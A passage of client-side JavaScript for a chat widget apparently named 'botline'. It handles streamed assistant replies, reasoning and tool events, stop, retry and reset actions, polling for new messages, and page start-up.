      const type = response.headers.get("Content-Type") || "";
      if (!response.ok || type.indexOf("text/event-stream") < 0) {
        const message = await errorMessage(response);
        log("prompt refused", response.status, message);
        removeMessage(assistant);
        finished = true;
        user.refused = true;
        user.el.classList.add("bl-msg--unsent");
        if (response.status === 404) endSession(message);
        else showError(message, { retry: true, refused: true });
        return;
      }
      user.refused = false;
      await readEvents(response, function (name, data) {
        log(name, data);
        if (name === "delta") {
          assistant.text += typeof data.text === "string" ? data.text : "";
          scheduleRender(assistant);
        } else if (name === "reasoning") {
          const stick = isNearBottom();
          setReasoning(assistant, (assistant.reasoning || "") + (typeof data.text === "string" ? data.text : ""), true);
          if (stick) scrollToBottom();
        } else if (name === "tool") {
          if (state.client.showToolCalls) toolChip(assistant, data);
        } else if (name === "done") {
          finished = true;
          assistant.id = data.messageId;
          if (!data.cancelled && typeof data.completionText === "string" && data.completionText) {
            assistant.text = data.completionText;
          }
          setAssistantText(assistant, assistant.text);
          if (assistant.thinking) assistant.thinking.open = false;
          if (Array.isArray(data.media)) attachMedia(assistant, data.media);
          if (Array.isArray(data.documents)) setSources(assistant, data.documents);
          if (data.cancelled) markStopped(assistant);
          else if (data.audio) { assistant.audio = true; attachAudio(assistant, true); }
        } else if (name === "error") {
          finished = true;
          if (!assistant.text) removeMessage(assistant);
          else setAssistantText(assistant, assistant.text);
          showError(data.message || t("errorLabel"), { retry: true });
        }
      });
      if (!finished) {
        if (state.stopRequested) {
          setAssistantText(assistant, assistant.text);
          markStopped(assistant);
        } else {
          if (!assistant.text) removeMessage(assistant);
          showError(t("errorLabel"), { retry: true });
        }
      }
    } catch (err) {
      if (err && err.name === "AbortError") {
        if (state.stopRequested && state.messages.includes(assistant)) {
          setAssistantText(assistant, assistant.text);
          markStopped(assistant);
        }
      } else {
        log("prompt failed", err);
        if (!assistant.text && state.messages.includes(assistant)) removeMessage(assistant);
        showError(t("errorLabel"), { retry: true });
      }
    } finally {
      clearTimeout(state.stopTimer);
      assistant.el.removeAttribute("aria-busy");
      assistant.el.classList.remove("bl-msg--thinking");
      if (state.messages.includes(assistant) && !assistant.text && assistant.status !== "cancelled") {
        removeMessage(assistant);
      }
      state.controller = null;
      setBusy(false);
    }
  }

  async function stop() {
    if (!state.busy || state.stopRequested) return;
    state.stopRequested = true;
    ui.stop.disabled = true;
    const controller = state.controller;
    // The server ends the stream with `done` (cancelled); if it does not, stop listening anyway.
    state.stopTimer = setTimeout(function () { if (controller) controller.abort(); }, STOP_GRACE_MS);
    try {
      const response = await fetch(apiBase, { method: "DELETE" });
      log("stop", response.status);
    } catch (err) {
      log("stop failed", err);
      if (controller) controller.abort();
    }
  }

  // POSTs a session action (/retry, /reset). On failure shows why (a vanished session ends the page)
  // and returns false; `networkErrorOptions` go to the error shown when the request cannot be sent.
  async function postAction(path, networkErrorOptions) {
    let response;
    try {
      response = await fetch(apiBase + path, { method: "POST" });
    } catch (err) {
      showError(t("errorLabel"), networkErrorOptions);
      return false;
    }
    if (response.status !== 204) {
      const message = await errorMessage(response);
      if (response.status === 404) endSession(message);
      else showError(message);
      return false;
    }
    return true;
  }

  async function retry(refused) {
    if (state.busy || state.ended) return;
    const lastUserIndex = state.messages.map(function (m) { return m.role; }).lastIndexOf("user");
    if (lastUserIndex < 0) return;
    const user = state.messages[lastUserIndex];
    if (!refused && !user.refused && !(await postAction("/retry", { retry: true }))) return;
    state.messages.slice(lastUserIndex + 1).forEach(removeMessage);
    clearError();
    send(user.content, { user: user });
  }

  async function newConversation() {
    if (state.ended) return;
    if (state.controller) {
      state.stopRequested = false;
      state.controller.abort();
    }
    if (!(await postAction("/reset"))) return;
    clearError();
    state.messages.slice().forEach(removeMessage);
    clearAttachments();
    updateEmptyState();
    ui.input.focus();
  }

  // ---------------------------------------------------------------- start

  function showFatal(message) {
    const app = document.getElementById("app");
    app.className = "bl-app bl-app--fatal";
    app.setAttribute("aria-busy", "false");
    app.textContent = "";
    app.append(el("div", { className: "bl-fatal", role: "alert" }, [icon("alert"), el("p", { text: message })]));
  }

  // Messages the assistant adds on its own (scheduled continuations) appear while the page is open.
  const POLL_MS = Math.max(Number(config.pollSeconds) || 15, 0.2) * 1000;

  async function pollForNewMessages() {
    if (state.busy || document.hidden) return;
    let response;
    try {
      response = await fetch(apiBase, { headers: { Accept: "application/json" }, cache: "no-store" });
    } catch (err) {
      return;
    }
    if (!response.ok || state.busy) return;
    const data = await response.json();
    const shown = new Set(state.messages.map(function (m) { return m.id; }));
    const fresh = (data.messages || []).filter(function (m) {
      return m.message_id && !shown.has(m.message_id) && m.role === "assistant";
    });
    if (!fresh.length) return;
    const follow = isNearBottom();
    fresh.forEach(function (m) {
      appendMessage({ id: m.message_id, role: m.role, content: m.content, status: m.status, audio: m.audio, agent: m.agent, reasoning: m.reasoning, media: m.media, documents: m.documents });
    });
    updateEmptyState();
    refreshActions();
    if (follow) scrollToBottom();
  }

  // An agent's answer (docs/handoff.md) arrives at once: the server nudges the page over SSE, on any
  // replica, and the page fetches the new messages as its poll does. The poll stays as the fallback.
  function listenForNewMessages() {
    if (typeof EventSource !== "function") return;
    const events = new EventSource(apiBase + "/events");
    events.addEventListener("messages", function () {
      if (state.busy) state.missedNews = true;
      else pollForNewMessages();
    });
  }

  async function start() {
    applyTheme();
    let response;
    try {
      response = await fetch(apiBase, { headers: { Accept: "application/json" }, cache: "no-store" });
    } catch (err) {
      showFatal(DEFAULT_CULTURE.errorLabel);
      return;
    }
    if (!response.ok) {
      showFatal(response.status === 404 ? DEFAULT_CULTURE.sessionEndedLabel : await errorMessage(response));
      return;
    }
    const data = await response.json();
    state.culture = Object.assign({}, DEFAULT_CULTURE, data.culture || {});
    state.client = data.client || {};
    state.debug = Boolean(state.client.debug);
    log("session", data);
    if (state.culture.languageCode) document.documentElement.lang = state.culture.languageCode;
    if (state.client.pageTitle) document.title = state.client.pageTitle;
    buildShell();
    (data.messages || []).forEach(function (m) {
      if (m.role !== "user" && m.role !== "assistant") return;
      appendMessage({ id: m.message_id, role: m.role, content: m.content, status: m.status, audio: m.audio, agent: m.agent, reasoning: m.reasoning, media: m.media, documents: m.documents });
    });
    updateEmptyState();
    refreshActions();
    scrollToBottom();
    document.getElementById("app").setAttribute("aria-busy", "false");
    document.documentElement.classList.add("bl-ready");
    if (embedded) {
      document.addEventListener("keydown", function (event) {
        if (event.key === "Escape" && !event.defaultPrevented) tellParent({ type: "botline:close" });
      });
    }
    announceTheme();
    setInterval(pollForNewMessages, POLL_MS);
    listenForNewMessages();
    // Custom scripts run before the history has loaded; this event tells them the page is built.
    document.dispatchEvent(new CustomEvent("botline:ready", { detail: { messages: state.messages.length } }));
    if (!framed && window.matchMedia("(pointer: fine)").matches) ui.input.focus({ preventScroll: true });
  }

  start().catch(function (err) {
    console.error("[botline] the chat could not start", err);
    showFatal(DEFAULT_CULTURE.errorLabel);
  });
})();
